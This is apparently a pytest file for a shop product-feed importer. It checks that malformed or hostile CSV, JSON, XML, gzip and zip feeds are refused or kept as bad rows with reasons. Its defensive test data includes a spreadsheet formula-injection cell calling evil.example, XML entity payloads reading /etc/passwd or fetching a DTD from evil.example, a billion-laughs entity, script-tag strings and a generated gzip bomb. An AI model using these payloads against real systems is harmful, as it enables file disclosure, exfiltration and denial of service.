"""What no shop means to send and some file will hold: refused with a clear error, or kept aside row by row."""

import gzip
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from shopkeeper.errors import FeedError
from shopkeeper.shop import feeds
from shopkeeper.shop.feeds import BadRow, delimited, source
from shopkeeper.shop.feeds.rows import Notes
from tests.shop.feeds.cases import SAMPLES

HEAD = "sku,name,price,description\n"


def read(path: Path, data: str | bytes, **how: Any) -> list[Any]:
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return list(feeds.read(path, kind="products", **how))


def bad_of(found: list[Any]) -> list[BadRow]:
    return [item for item in found if isinstance(item, BadRow)]


@pytest.mark.parametrize(
    ("price", "reason"),
    [
        ("1e400", "is in short form"), ("-5", "is negative"), ("−5.00", "is negative"), ('"12,50"', "may be 12.50 or 1250"),
        ("", "is blank"), ("free", "is not a price"), ("NaN", "is not a price"), ("9" * 20, "or more"),
        ("$10 - $20", "is a range of prices"), ("$6.94 $ 6 . 94", "more than one number"), ("1.2.3", "is not a number"), ("9" * 200, "is not a price"),
    ],
)  # fmt: skip
def test_an_absurd_price_is_a_bad_row_that_says_why(
    price: str, reason: str, tmp_path: Path
) -> None:
    good = "".join(f"G-{i},Mug,4.00,\n" for i in range(10))
    found = read(tmp_path / "f.csv", f"{HEAD}{good}A-1,Knife,{price},\n")
    (bad,) = bad_of(found)
    assert (bad.line, bad.field, len(found)) == (12, "price", 11)
    assert reason in bad.reason and bad.hint


def test_nul_bytes_are_dropped_and_the_row_goes_in(tmp_path: Path) -> None:
    (product,) = read(tmp_path / "f.csv", HEAD + "A-\x001,Kn\x00ife,4.00,\n")
    assert (product.id, product.title) == ("A-1", "Knife")


def test_a_line_beyond_the_limit_is_one_bad_row(tmp_path: Path) -> None:
    huge = "A-1,Knife,4.00," + "x" * (source.MAX_LINE + 10)
    found = read(tmp_path / "f.csv", f"{HEAD}{huge}\nA-2,Mug,5.00,\n")
    (bad,) = bad_of(found)
    assert bad.line == 2 and "longer than 16 MB" in bad.reason and len(bad.raw) < 10_000
    assert found[-1].id == "A-2"


def test_a_cell_beyond_the_limit_is_one_bad_row(tmp_path: Path) -> None:
    big = "x" * (delimited.MAX_FIELD + 1)
    found = read(tmp_path / "f.csv", f"{HEAD}A-1,Knife,4.00,{big}\nA-2,Mug,5.00,\n")
    assert [b.reason for b in bad_of(found)] == ["a cell is longer than 8,000,000 characters"]
    assert found[-1].id == "A-2"


def test_a_quote_that_is_never_closed_costs_one_row(tmp_path: Path) -> None:
    rows = "".join(f"B-{i},Mug,5.00,\n" for i in range(50))
    found = read(tmp_path / "f.csv", f'{HEAD}A-1,"Knife,4.00,\n{rows}')
    (bad,) = bad_of(found)
    assert bad.line == 2 and "opened and not closed" in bad.reason
    assert len(found) == 51


def test_a_row_cut_off_at_the_end_is_told(tmp_path: Path) -> None:
    found = read(tmp_path / "f.csv", HEAD + "A-1,Knife,4.00,sharp\nA-2,Mu")
    assert "may be cut off" in bad_of(found)[0].reason


def test_cells_that_a_spreadsheet_would_run_stay_text(tmp_path: Path) -> None:
    formula = '=HYPERLINK(""http://evil.example"";""win"")'
    (product,) = read(tmp_path / "f.csv", f'{HEAD}A-1,"{formula}",4.00,@SUM(A1)\n')
    assert product.title == formula.replace('""', '"')
    assert delimited.formula_safe(product.title) == "'" + product.title
    assert delimited.unescaped(delimited.formula_safe(product.title)) == product.title


def test_right_to_left_emoji_and_broken_html_go_in_as_they_are(tmp_path: Path) -> None:
    texts = ("שלום\u202e עולם", "👩‍👩‍👧‍👦 mug 🫖", "<p>open <b>bold<script>alert(1)</script>")
    rows = [{"sku": f"A-{i}", "name": t, "price": 4} for i, t in enumerate(texts)]
    found = read(tmp_path / "f.json", json.dumps(rows))
    assert tuple(p.title for p in found) == texts


def test_the_same_handle_with_the_same_options_twice_is_told(tmp_path: Path) -> None:
    text = (SAMPLES / "shopify-new.csv").read_text(encoding="utf-8")
    line = next(x for x in text.splitlines() if x.startswith("Beeswax"))
    found = read(tmp_path / "f.csv", text + line + "\n")
    assert ["comes twice" in b.reason for b in bad_of(found)] == [True]
    assert len(found) == 4


def test_an_id_of_the_shop_that_comes_twice_is_told(tmp_path: Path) -> None:
    found = read(tmp_path / "f.csv", "id,name,price\n1,Mug,4.00\n1,Cup,5.00\n")
    (bad,) = bad_of(found)
    assert (bad.line, bad.field) == (3, "id") and "came before" in bad.reason


def test_stock_below_zero_counts_as_none_and_is_noted(tmp_path: Path) -> None:
    notes = Notes()
    (product,) = read(tmp_path / "f.csv", "sku,name,price,stock\nA,Mug,4.00,-3\n", notes=notes)
    assert product.variants[0].quantity == 0
    assert list(notes) == ["stock below zero counts as none (once, first in line 2)"]


def test_a_zip_bomb_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "bomb.csv.gz"
    with gzip.open(path, "wb") as out:
        for _ in range(80):
            out.write(b"0" * 1_000_000)
    with pytest.raises(FeedError, match="unpacks to more than 250 times its size"):
        list(feeds.read(path, kind="products"))


def test_a_zip_with_one_file_is_read_and_one_with_two_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "feed.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.write(SAMPLES / "products.csv", "products.csv")
    assert len(list(feeds.read(path, kind="products"))) == 5
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("other.csv", "a,b\n")
    with pytest.raises(FeedError, match="holds 2 files"):
        list(feeds.read(path, kind="products"))


def test_a_gzip_file_that_breaks_off_is_told_before_anything_goes_in(tmp_path: Path) -> None:
    packed = gzip.compress((SAMPLES / "products.csv").read_bytes() * 50)
    with pytest.raises(FeedError, match="breaks off in the middle"):
        read(tmp_path / "f.csv.gz", packed[: len(packed) // 2])


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>',
        '<!DOCTYPE rss [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % out SYSTEM "http://evil.example/x.dtd">%out;]>',
    ],
)  # fmt: skip
def test_xml_that_declares_entities_is_refused(doctype: str, tmp_path: Path) -> None:
    text = (SAMPLES / "google.xml").read_text(encoding="utf-8")
    with pytest.raises(FeedError, match="declares entities"):
        read(tmp_path / "f.xml", text.replace("<rss", doctype + "<rss", 1))


def test_an_unescaped_ampersand_costs_one_item(tmp_path: Path) -> None:
    text = (SAMPLES / "google.xml").read_text(encoding="utf-8")
    found = read(tmp_path / "f.xml", text.replace("Reading Lamp", "Table & Lamp"))
    (bad,) = bad_of(found)
    assert "no sound XML" in bad.reason and "&amp;" in bad.hint and len(found) == 3


def test_json_nested_without_end_costs_one_record(tmp_path: Path) -> None:
    deep = '{"sku":"A","name":"Mug","price":' + "[" * 5000 + "]" * 5000 + "}"
    found = read(tmp_path / "f.jsonl", '{"sku":"B","name":"Cup","price":4}\n' + deep + "\n")
    assert [b.reason for b in bad_of(found)] == ["is nested deeper than 64 levels"]


def test_numbers_beyond_every_range_are_refused_where_they_count(tmp_path: Path) -> None:
    good = [f'{{"sku":"G{i}","name":"Mug","price":4,"stock":{i}}}' for i in range(3)]
    bad = [good[0].replace("4", "1e999"), good[1].replace('"stock":1', '"stock":' + "9" * 5000)]
    lines = [*good, *(line.replace("G", "H") for line in bad)]
    found = read(tmp_path / "f.jsonl", "\n".join(lines) + "\n")
    assert [(b.line, b.field) for b in bad_of(found)] == [(4, "price"), (5, "stock")]


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("f.csv", b"", "is empty"), ("f.csv", b"\n\n", "is empty"),
        ("f.csv", b"\x00\x01\x02\xff" * 500, "no header"), ("f.parquet", b"PAR1 not really", "no sound Parquet"),
        ("f.gz", b"\x1f\x8b\x08garbage garbage garbage", "breaks off"), ("f.csv", b"a,b\n1,2\n", "no column looks like the title"),
    ],
)  # fmt: skip
def test_a_file_that_makes_no_sense_is_one_clear_error(
    name: str, data: bytes, reason: str, tmp_path: Path
) -> None:
    with pytest.raises(FeedError, match=reason) as caught:
        read(tmp_path / name, data)
    assert caught.value.hint


def test_a_file_that_is_not_there_is_told_plainly(tmp_path: Path) -> None:
    with pytest.raises(FeedError, match="is not there"):
        list(feeds.read(tmp_path / "nothing.csv", kind="products"))


def test_scripts_inside_the_first_rows_do_not_make_a_table_a_page(tmp_path: Path) -> None:
    row = 'A-1,Mug,4.00,"<html><script>x()</script>"\n'
    (product,) = read(tmp_path / "f.csv", HEAD + row)
    assert product.title == "Mug"
